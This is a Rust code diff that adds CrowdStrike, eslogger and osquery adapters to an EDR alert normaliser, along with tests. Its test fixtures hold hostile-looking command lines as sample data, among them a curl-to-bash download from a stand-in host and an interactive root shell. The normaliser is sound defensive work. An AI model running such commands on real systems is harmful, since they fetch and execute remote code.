@@ -6,6 +6,8 @@
 //! (Sysmon 1/3/11/22, Security 4688, PowerShell 4103/4104), winlogbeat's `winlog.event_data`, and
 //! Linux/macOS process events in ECS. Alert content is data: nothing here evaluates it.
 
+mod edr;
+
 use crate::funcs;
 use serde_json::{Map, Value as Json};
 use sha2::{Digest, Sha256};
@@ -87,6 +89,28 @@ const MAX_RULE_MATCHES: usize = 1000;
 
 /// Normalises one parsed document, or each event of a Sigma engine's rule report.
 pub fn from_json_expanded(doc: Json, position: &str) -> Vec<Result<Alert, BadAlert>> {
+    // An osquery snapshot: one alert per row.
+    if let Json::Object(o) = &doc
+        && let Some(rows) = edr::osquery_snapshot_rows(o)
+    {
+        let total = rows.len();
+        let mut out: Vec<_> = rows
+            .into_iter()
+            .take(MAX_RULE_MATCHES)
+            .enumerate()
+            .map(|(i, r)| from_json(r, &format!("{position}, row {}", i + 1)))
+            .collect();
+        if total > MAX_RULE_MATCHES {
+            out.push(Err(BadAlert {
+                position: format!("{position}, rows {} to {total}", MAX_RULE_MATCHES + 1),
+                reason: format!(
+                    "the osquery snapshot holds {total} rows; the first {MAX_RULE_MATCHES} were taken as alerts and these were not: log the query as differential results to run them"
+                ),
+                excerpt: excerpt(&doc.to_string()),
+            }));
+        }
+        return out;
+    }
     let (rule, matches) = match rule_matches(doc) {
         Ok(r) => r,
         Err(doc) => return vec![from_json(doc, position)],
@@ -349,6 +373,15 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
     if let Some((jp, jid)) = jamf_protect(&obj) {
         obj = jp;
         id = id.or(jid);
+    }
+    // Endpoint agents' own shapes: CrowdStrike Falcon detections, macOS eslogger exec events,
+    // osquery result lines.
+    for adapter in [edr::crowdstrike, edr::eslogger, edr::osquery] {
+        if let Some((ecs, vid)) = adapter(&obj) {
+            obj = ecs;
+            id = id.or(vid);
+            break;
+        }
     }
     // A Sigma engine's match that nests the matched event's own fields under `event`.
     if let Some(Json::Object(ev)) = obj.get("event").cloned()
@@ -1078,7 +1111,7 @@ fn jamf_protect(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<St
     Some((e, id))
 }
 
-fn basename_of(path: &str) -> &str {
+pub(crate) fn basename_of(path: &str) -> &str {
     path.rsplit(['/', '\\']).next().unwrap_or(path)
 }
 
@@ -1242,7 +1275,7 @@ fn defender(ecs: &mut Map<String, Json>, id: &mut Option<String>) {
     }
 }
 
-fn push_unique(v: &mut Vec<String>, s: &str) {
+pub(crate) fn push_unique(v: &mut Vec<String>, s: &str) {
     if !v.iter().any(|x| x == s) {
         v.push(s.to_owned());
     }
@@ -1265,7 +1298,7 @@ fn collect_techniques(v: Option<&Json>, out: &mut Vec<String>) {
     }
 }
 
-fn s(v: &str) -> Json {
+pub(crate) fn s(v: &str) -> Json {
     Json::String(v.to_owned())
 }
 
@@ -1875,6 +1908,75 @@ mod tests {
         assert_eq!(w.doc["host"]["name"], "MBP-8");
         assert_eq!(w.doc["host"]["os"]["type"], "macos");
         assert_eq!(w.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
+    }
+
+    #[test]
+    fn crowdstrike_detections_map_to_ecs() {
+        // The event stream's DetectionSummaryEvent: kernel image paths, directory + file name.
+        let ev = from_json(json!({"metadata": {"eventType": "DetectionSummaryEvent", "offset": 9},
+            "event": {"ComputerName": "FIN-LT-042", "UserName": "CORP\\jdoe", "DetectId": "ldt:a1:9",
+                "FileName": "powershell.exe",
+                "FilePath": "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0",
+                "CommandLine": "powershell.exe -nop -c whoami",
+                "ParentImageFileName": "\\Device\\HarddiskVolume3\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+                "ParentCommandLine": "WINWORD.EXE /n doc.docm", "LocalIP": "10.1.2.3", "ProcessId": 42,
+                "Technique": "PowerShell", "TechniqueId": "T1059.001"}}), "x").unwrap();
+        assert_eq!(ev.id, "ldt:a1:9");
+        assert_eq!(
+            ev.doc["process"]["executable"],
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+        );
+        assert_eq!(ev.doc["process"]["parent"]["name"], "WINWORD.EXE");
+        assert_eq!(ev.doc["user"]["name"], "jdoe");
+        assert_eq!(ev.doc["user"]["domain"], "CORP");
+        assert_eq!(ev.doc["host"]["name"], "FIN-LT-042");
+        assert_eq!(ev.doc["host"]["os"]["type"], "windows");
+        assert_eq!(ev.doc["threat"]["technique"]["id"], json!(["T1059.001"]));
+        assert_eq!(ev.doc["process"]["pid"], 42);
+        // The Alerts API's alert entity, on a Mac.
+        let api = from_json(json!({"composite_id": "c:ind:1", "cmdline": "/bin/bash -c 'curl -s https://x.example/i | bash'",
+            "filepath": "/bin/bash", "filename": "bash", "user_name": "ann", "technique_id": "T1059.004",
+            "device": {"hostname": "MBP-1", "platform_name": "Mac", "local_ip": "10.0.0.5"},
+            "parent_details": {"cmdline": "/bin/zsh -l", "filepath": "/bin/zsh", "filename": "zsh"}}), "x").unwrap();
+        assert_eq!(api.id, "c:ind:1");
+        assert_eq!(api.doc["process"]["name"], "bash");
+        assert_eq!(api.doc["process"]["parent"]["executable"], "/bin/zsh");
+        assert_eq!(api.doc["host"]["os"]["type"], "macos");
+        assert_eq!(api.doc["user"]["name"], "ann");
+        // Something else that merely has a `cmdline` is not taken for Falcon.
+        assert!(from_json(json!({"cmdline": "ls"}), "x").is_err());
+    }
+
+    #[test]
+    fn eslogger_exec_events_and_osquery_results_map_to_ecs() {
+        let es = from_json(json!({"time": "2025-04-02T10:11:12Z", "event_type": 9,
+            "process": {"executable": {"path": "/bin/zsh"}, "audit_token": {"pid": 10, "euid": 501}, "signing_id": "com.apple.zsh", "is_platform_binary": true},
+            "event": {"exec": {"target": {"executable": {"path": "/usr/bin/osascript"}, "audit_token": {"pid": 11, "euid": 501}},
+                "args": ["osascript", "-e", "display dialog \"x\""], "cwd": {"path": "/Users/ann"}}}}), "x").unwrap();
+        assert_eq!(es.doc["process"]["name"], "osascript");
+        assert_eq!(es.doc["process"]["command_line"], "osascript -e \"display dialog \"x\"\"");
+        assert_eq!(es.doc["process"]["parent"]["executable"], "/bin/zsh");
+        assert_eq!(es.doc["process"]["parent"]["pid"], 10);
+        assert_eq!(es.doc["process"]["working_directory"], "/Users/ann");
+        assert_eq!(es.doc["user"]["id"], "501");
+        assert_eq!(es.doc["host"]["os"]["type"], "macos");
+        let oq = from_json(json!({"name": "pack_ir_process_events", "hostIdentifier": "web-03", "unixTime": 1743588672,
+            "columns": {"pid": "8812", "path": "/usr/bin/bash", "cmdline": "bash -i", "parent": "8800", "uid": "0", "cwd": "/tmp"},
+            "action": "added"}), "x").unwrap();
+        assert_eq!(oq.doc["process"]["executable"], "/usr/bin/bash");
+        assert_eq!(oq.doc["process"]["pid"], 8812);
+        assert_eq!(oq.doc["process"]["parent"]["pid"], 8800);
+        assert_eq!(oq.doc["user"]["name"], "root");
+        assert_eq!(oq.doc["host"]["name"], "web-03");
+        assert_eq!(oq.doc["host"]["os"]["type"], "linux");
+        // A snapshot is one alert per row.
+        let text = json!({"name": "processes", "hostIdentifier": "h", "calendarTime": "x", "action": "snapshot",
+            "snapshot": [{"path": "/bin/sh", "cmdline": "sh -c id"}, {"path": "/usr/bin/python3", "cmdline": "python3 -m http.server"}]}).to_string();
+        let all = parse_text(&text);
+        assert_eq!(all.len(), 2);
+        let second = all[1].as_ref().unwrap();
+        assert_eq!(second.doc["process"]["name"], "python3");
+        assert_eq!(second.position, "document, row 2");
     }
 
     #[test]
